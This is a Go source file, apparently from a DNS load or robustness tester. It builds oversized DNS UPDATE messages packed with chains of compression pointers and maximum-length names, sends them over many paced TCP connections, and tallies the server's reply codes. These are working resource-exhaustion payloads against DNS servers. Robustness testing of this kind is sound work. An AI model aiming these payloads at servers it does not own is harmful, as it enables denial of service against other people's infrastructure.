//go:build linux

package main

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"sync/atomic"

	"github.com/miekg/dns"
)

// bombs are updates of 64 KiB whose every name is as long as a name can be, and written in pointers to pointers, sent over
// as many connections as are to be open, each of which waits for the answer to the one before.
func bombs(ctx context.Context, o *options, c *counts) error {
	all := [][]byte{framed(bomb(o.zone, dns.TypeA)), framed(bomb(o.zone, dns.TypeMX)), framed(chain(o.zone))}
	var allowed atomic.Int64 // that may be sent by now
	go func() {
		_ = pace(ctx, o.rate, func(n int) error { allowed.Add(int64(n)); return nil })
	}()
	paced := *o
	paced.rate = 1000 // connections
	return crowd(ctx, &paced, c, func(ctx context.Context, conn *net.TCPConn) {
		var head [2]byte
		reply := make([]byte, 1<<16)
		for i := 0; ctx.Err() == nil; i++ {
			if err := pace1(ctx, &allowed); err != nil {
				return
			}
			if _, err := conn.Write(all[i%len(all)]); err != nil {
				return
			}
			if _, err := io.ReadFull(conn, head[:]); err != nil {
				return
			}
			n := int(binary.BigEndian.Uint16(head[:]))
			if _, err := io.ReadFull(conn, reply[:n]); err != nil || n < 12 {
				return
			}
			c.Rcodes[reply[3]&15].Add(1)
		}
	})
}

// pace1 takes one of what is allowed.
func pace1(ctx context.Context, allowed *atomic.Int64) error {
	ctx, done := context.WithCancel(ctx)
	defer done()
	return pace(ctx, 1000, func(int) error {
		if allowed.Add(-1) >= 0 {
			done()
			return nil
		}
		allowed.Add(1)
		return nil
	})
}

func updateHead(zone string) []byte {
	return pack(new(dns.Msg).SetUpdate(zone))
}

// zoneName is where the name of the zone stands in an update.
const zoneName = 12

// bomb has records whose owners, and names in their data, are of 127 labels, each behind a pointer of its own.
func bomb(zone string, rrtype uint16) []byte {
	m := updateHead(zone)
	last, records := zoneName, 0
	labels := dns.CountLabel(zone)
	for len(m)+40 < 1<<16 {
		at := len(m)
		if at < 1<<14 && labels < 126 && (labels-2)*2+len(zone)+8 < 255 {
			m = append(m, 1, 'a')
			labels++
		} else {
			at = last
		}
		m = binary.BigEndian.AppendUint16(m, 0xc000|uint16(last))
		last = at
		m = binary.BigEndian.AppendUint16(m, rrtype)
		m = binary.BigEndian.AppendUint16(m, dns.ClassINET)
		m = binary.BigEndian.AppendUint32(m, 60)
		if rrtype == dns.TypeMX {
			m = append(m, 0, 4, 0, byte(records))
			m = binary.BigEndian.AppendUint16(m, 0xc000|uint16(last))
		} else {
			m = append(m, 0, 4, 192, 0, 2, byte(records))
		}
		records++
	}
	binary.BigEndian.PutUint16(m[8:], uint16(records))
	return m
}

// chain has records whose owners are a pointer to the owner before, and so on to the first.
func chain(zone string) []byte {
	m := updateHead(zone)
	last, records := zoneName, 0
	for len(m)+20 < 1<<16 {
		at := len(m)
		m = binary.BigEndian.AppendUint16(m, 0xc000|uint16(last))
		if at < 1<<14 {
			last = at
		}
		m = binary.BigEndian.AppendUint16(m, dns.TypeA)
		m = binary.BigEndian.AppendUint16(m, dns.ClassINET)
		m = append(m, 0, 0, 0, 60, 0, 4, 192, 0, 2, byte(records))
		records++
	}
	binary.BigEndian.PutUint16(m[8:], uint16(records))
	return m
}
